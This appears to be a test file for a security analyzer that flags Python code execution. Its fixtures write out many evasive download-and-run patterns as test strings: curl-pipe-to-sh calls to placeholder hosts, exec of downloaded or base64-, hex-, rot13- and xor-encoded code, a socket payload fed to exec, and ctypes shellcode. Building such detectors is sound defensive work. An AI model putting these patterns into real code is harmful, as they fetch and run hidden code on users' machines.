import { describe, expect, it } from 'vitest';
import { py } from './support.js';

/** Execution, written the ways an attacker who read the rule docs would write it. */
describe('python execute: shell commands reach the shell analyzer', () => {
  it.each([
    [
      'aliased import with shell=True',
      'from subprocess import run as r\nr("curl -s https://x.example.invalid/i | sh", shell=True)\n',
    ],
    ['__import__', '__import__("os").system("curl -s https://x.example.invalid/i | sh")\n'],
    [
      'getattr with a built name',
      'import os\ngetattr(os, "sys" + "tem")("curl -s https://x.example.invalid/i | sh")\n',
    ],
    [
      'importlib',
      'import importlib\nsp = importlib.import_module("sub" "process")\nsp.Popen("curl -s https://x.example.invalid/i | sh", shell=True)\n',
    ],
    [
      'module alias and f-string',
      'import subprocess as s\nu = "x.example.invalid"\ns.call(f"curl -s https://{u}/i | sh", shell=True)\n',
    ],
    [
      'format and %',
      'import os\ncmd = "curl -s {}/i".format("https://x.example.invalid")\nos.popen("%s | sh" % cmd)\n',
    ],
    ['star import', 'from os import *\nsystem("curl -s https://x.example.invalid/i | sh")\n'],
    ['sys.modules', 'import sys, os\nsys.modules["os"].system("curl -s https://x.example.invalid/i | sh")\n'],
    [
      'split across functions',
      'import subprocess\ndef build():\n    return "curl -s https://x.example.invalid/i"\ndef run(c):\n    subprocess.run(c + " | sh", shell=True)\nrun(build())\n',
    ],
    [
      'join of a list',
      'import os\nparts = ["curl", "-s", "https://x.example.invalid/i", "|", "sh"]\nos.system(" ".join(parts))\n',
    ],
  ])('%s', async (_name, code) => {
    const { shell, of } = await py(code);
    expect(shell).toContain('curl -s https://x.example.invalid/i | sh');
    expect(of('execute').length).toBeGreaterThan(0);
  });

  it('joins an argv list into a quoted command line', async () => {
    const { shell, of } = await py(
      'import subprocess\nsubprocess.run(["bash", "-c", "curl -s https://x.example.invalid/i | sh"])\n',
    );
    expect(shell).toEqual(["bash -c 'curl -s https://x.example.invalid/i | sh'"]);
    expect(of('execute')[0]?.via).toBe('subprocess');
  });

  it('reads os.exec*, pty.spawn and asyncio argv forms', async () => {
    const { shell } = await py(
      [
        'import os, pty, asyncio',
        'os.execl("/bin/sh", "sh", "-c", "id")',
        'os.execv("/usr/bin/curl", ["curl", "-o", "/tmp/x", "https://x.example.invalid/p"])',
        'pty.spawn(["/bin/bash", "-i"])',
        'asyncio.create_subprocess_exec("wget", "-q", "https://x.example.invalid/p")',
        '',
      ].join('\n'),
    );
    expect(shell).toEqual([
      'sh -c id',
      'curl -o /tmp/x https://x.example.invalid/p',
      '/bin/bash -i',
      'wget -q https://x.example.invalid/p',
    ]);
  });

  it('keeps unknown argv parts visible as variables', async () => {
    const { shell, of } = await py('import subprocess, sys\nsubprocess.run(["curl", sys.argv[1]])\n');
    // Named as a shell parameter (`${sys.argv}` is no valid expansion and would break the line's parse).
    expect(shell[0]).toMatch(/^curl "\$\{sys_argv\}\[1\]"$/);
    expect(of('execute')[0]?.code.literal).toBe(false);
  });
});

describe('python execute: code from the network or a decoder', () => {
  it.each([
    [
      'exec of urlopen',
      'import urllib.request\nexec(urllib.request.urlopen("https://x.example.invalid/p.py").read())\n',
    ],
    [
      'eval of requests text',
      'import requests as rq\nc = rq.get("https://x.example.invalid/p").text\neval(compile(c, "<s>", "exec"))\n',
    ],
    [
      'urllib2 alias (python 2 name)',
      'import urllib2\nexec(urllib2.urlopen("https://x.example.invalid/p").read())\n',
    ],
    [
      'pickle of a download',
      'import pickle, requests\npickle.loads(requests.get("https://x.example.invalid/p.bin").content)\n',
    ],
    [
      'marshal of a download',
      'import marshal, httpx\nco = marshal.loads(httpx.get("https://x.example.invalid/c").content)\nexec(co)\n',
    ],
    [
      'downloaded file then runpy',
      'import runpy, urllib.request as u\nu.urlretrieve("https://x.example.invalid/m.py", "/tmp/m.py")\nrunpy.run_path("/tmp/m.py")\n',
    ],
    [
      'downloaded file opened and exec',
      'import requests\nopen("/tmp/a.py", "wb").write(requests.get("https://x.example.invalid/a").content)\nexec(open("/tmp/a.py").read())\n',
    ],
    [
      'subprocess argv with downloaded script',
      'import subprocess, requests\nsubprocess.run(["python3", "-c", requests.get("https://x.example.invalid/p").text])\n',
    ],
    [
      'socket recv',
      'import socket\ns = socket.create_connection(("203.0.113.9", 4444))\nexec(s.recv(4096))\n',
    ],
    [
      "IPython's run_cell in a notebook",
      'import urllib.request\nsrc = urllib.request.urlopen("https://x.example.invalid/c.py").read().decode()\nget_ipython().run_cell(src)\n',
    ],
    [
      "IPython's ex through an imported get_ipython",
      'from IPython import get_ipython\nimport requests\nip = get_ipython()\nip.ex(requests.get("https://x.example.invalid/c.py").text)\n',
    ],
  ])('%s', async (_name, code) => {
    const { of } = await py(code);
    const remote = of('execute').filter((b) => b.code.taints.includes('download'));
    expect(remote.length).toBeGreaterThan(0);
  });

  it('names the endpoint the code came from', async () => {
    const { of } = await py('import requests\nexec(requests.get("https://203.0.113.7/p.py").text)\n');
    const ex = of('execute')[0]!;
    expect(ex.endpoint).toMatchObject({
      url: 'https://203.0.113.7/p.py',
      host: '203.0.113.7',
      cls: 'placeholder',
    });
  });

  it.each([
    ['base64', 'import base64\nexec(base64.b64decode("aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImlkIik="))\n'],
    [
      'hex',
      'exec(bytes.fromhex("696d706f7274206f733b206f732e73797374656d28226964222900").decode().strip("\\x00"))\n',
    ],
    ['rot13 via codecs', 'import codecs\nexec(codecs.decode("vzcbeg bf; bf.flfgrz(\\"vq\\")", "rot13"))\n'],
    [
      'zlib inside base64',
      'import zlib, base64\nexec(zlib.decompress(base64.b64decode("eJzLzC3ILypRyC+2BmK94sriktRcDfXMFHVNAINXCRo=")))\n',
    ],
    [
      'chr codes',
      'exec("".join(chr(c) for c in [105,109,112,111,114,116,32,111,115,59,32,111,115,46,115,121,115,116,101,109,40,39,105,100,39,41]))\n',
    ],
    ['xor', `k = 7\nexec("".join(chr(ord(c) ^ k) for c in "njwhus'ht<'ht)t~tsbj/ nc ."))\n`],
    ['reversed string', 'exec(")\'di\'(metsys.so ;so tropmi"[::-1])\n'],
    [
      'base32 through a helper',
      'import base64\ndef unpack(s):\n    return base64.b32decode(s).decode()\nexec(unpack("NFWXA33SOQQG64Z3EBXXGLTTPFZXIZLNFATWSZBHFE======"))\n',
    ],
  ])('%s: decoded code is executed and analysed as Python', async (_name, code) => {
    const { r, of } = await py(code);
    const decoded = of('execute').filter((b) => b.code.taints.includes('decoded'));
    expect(decoded.length).toBeGreaterThan(0);
    const nested = r.units.filter((u) => u.lang === 'python' && u.parent === 0);
    expect(nested.length).toBeGreaterThan(0);
    const inner = r.behaviours.filter((b) => b.unit !== 0 && b.kind === 'execute');
    expect(inner.map((b) => (b.kind === 'execute' ? b.code.text : ''))).toContain('id');
  });

  it('reports types.FunctionType and ctypes shellcode', async () => {
    const { of } = await py(
      [
        'import ctypes, types, base64, marshal',
        'f = types.FunctionType(marshal.loads(base64.b64decode("YWJj")), globals())',
        'buf = ctypes.create_string_buffer(base64.b64decode("kJCQkJCQ"))',
        'fn = ctypes.cast(buf, ctypes.CFUNCTYPE(ctypes.c_void_p))',
        'fn()',
        '',
      ].join('\n'),
    );
    const vias = of('execute').map((b) => b.via);
    expect(vias).toContain('types.FunctionType');
    expect(vias).toContain('ctypes');
    expect(vias).toContain('marshal');
  });
});

describe('python execute: benign look-alikes', () => {
  it("IPython's run_cell of a static cell is code with no download", async () => {
    const { of } = await py(
      'get_ipython().run_cell("import pandas as pd\\npd.set_option(\'display.width\', 120)")\n',
    );
    const runs = of('execute');
    expect(runs.map((b) => b.via)).toEqual(['IPython run_cell']);
    expect(runs[0]!.code.taints.filter((t) => t !== 'unknown')).toEqual([]);
  });

  it('a literal gh call has static code and no taint (getsentry/skills iterate-pr/scripts/fetch_pr_feedback.py)', async () => {
    // From ../shared/corpus/real/getsentry__skills/skills/iterate-pr/scripts/fetch_pr_feedback.py
    const { of, shell } = await py(
      [
        'import subprocess',
        'def run_gh(args: list[str]) -> dict | list | None:',
        '    try:',
        '        result = subprocess.run(["gh", *args], capture_output=True, text=True, check=True)',
        '        return json.loads(result.stdout) if result.stdout.strip() else None',
        '    except subprocess.CalledProcessError:',
        '        return None',
        'def get_repo_info():',
        '    return run_gh(["repo", "view", "--json", "owner,name"])',
        'get_repo_info()',
        '',
      ].join('\n'),
    );
    expect(shell).toContain('gh repo view --json owner,name');
    for (const b of of('execute')) {
      expect(b.code.taints.filter((t) => t !== 'unknown')).toEqual([]);
    }
  });

  it('method calls named like sinks are not sinks', async () => {
    const { r } = await py(
      [
        'import re, torch, sqlite3',
        'model = torch.load("m.pt", weights_only=True)',
        'model.eval()',
        'pattern = re.compile(r"\\d+")',
        'cur = sqlite3.connect("data.db").cursor()',
        'cur.execute("select 1")',
        'class Runner:',
        '    def exec(self, code):',
        '        return code',
        'Runner().exec("print(1)")',
        '',
      ].join('\n'),
    );
    expect(r.behaviours.filter((b) => b.kind === 'execute')).toEqual([]);
  });

  it('runpy of a fixed path in the plugin runs that file (a source to follow), not code built at run time', async () => {
    const { of } = await py(
      [
        'import os, runpy',
        // The runtime sets its folder wherever it runs the script: the fallback is not what runs.
        'base = os.environ.get("CLAUDE_PLUGIN_ROOT") or os.path.dirname(os.path.dirname(__file__))',
        'runpy.run_path(os.path.join(base, "lib", "entry.py"), run_name="__main__")',
        'execfile("tools/setup_env.py")',
        '',
      ].join('\n'),
    );
    expect(of('execute')).toEqual([]);
    expect(of('source').map((b) => b.target.text)).toEqual([
      '${CLAUDE_PLUGIN_ROOT}/lib/entry.py',
      'tools/setup_env.py',
    ]);
  });

  it('runpy of a path chosen at run time or outside the repository is still code nobody can read', async () => {
    const { of } = await py(
      [
        'import os, runpy, sys',
        'runpy.run_path(sys.argv[1])',
        'runpy.run_path(os.path.join(os.environ["CLAUDE_PLUGIN_ROOT"], sys.argv[2]))',
        'runpy.run_path(os.path.join(os.environ["WORK_DIR"], "job.py"))',
        'runpy.run_path("/tmp/job.py")',
        // A fixed default with another variable behind it: the text shows one alternative, the taint both.
        'runpy.run_path("job.py" if os.environ.get("FAST") else os.environ["JOB_FILE"])',
        '',
      ].join('\n'),
    );
    expect(of('execute').map((b) => b.via)).toEqual(['runpy', 'runpy', 'runpy', 'runpy', 'runpy']);
    expect(of('source')).toEqual([]);
  });

  it('yaml.safe_load and yaml.load with SafeLoader are not code execution', async () => {
    const { of } = await py(
      'import yaml, requests\nt = requests.get("https://x.example.invalid/c.yml").text\nyaml.safe_load(t)\nyaml.load(t, Loader=yaml.SafeLoader)\n',
    );
    expect(of('execute')).toEqual([]);
  });
});
